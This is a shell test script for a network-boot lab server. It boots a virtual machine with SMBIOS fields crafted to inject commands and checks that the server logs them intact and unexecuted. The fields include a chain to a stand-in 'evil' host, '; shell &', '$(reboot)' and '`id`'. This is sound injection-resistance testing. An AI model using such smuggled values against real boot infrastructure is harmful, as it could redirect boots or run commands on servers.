#!/bin/sh
# SPDX-License-Identifier: MIT
# A machine whose SMBIOS strings try to act: it boots like any other, and its record has them whole.
# Evidence: running in the journal, by the profile of the rule, and the strings unharmed in "requested".
set -eu
. "$(dirname "$0")/../lib/tap.sh"
. "$root/tests/lib/lab.sh"
lab_need

lab_server 'profile lab {
	image = "lab"
	args = "lab=idle"
	console = "ttyS0,115200n8"
	crashkernel = "192M"
}
rule { mac = "52:54:00:*" profile = "lab" }'
# shellcheck disable=SC2016 # that is the point
lab_machine m -smbios 'type=1,manufacturer=Acme && echo #1 "quoted" || exit,product=${net0/mac} ; shell & a=b?c%0aexit,serial=x" || chain http://10.0.2.2/evil' -smbios 'type=3,asset=$(reboot)`id`'
lab_event ' requested ' 60 || { done_testing; }
session=$(lab_session ' requested ')
lab_event " running $session " 90 "the machine runs"
like "$(grep -ah " requested $session " "$lab_state"/journal/*.log)" \
	'product=%24%7Bnet0/mac%7D%20%3B%20shell%20%26%20a%3Db%3Fc%250aexit' "the product came whole"
lab_stop m
done_testing
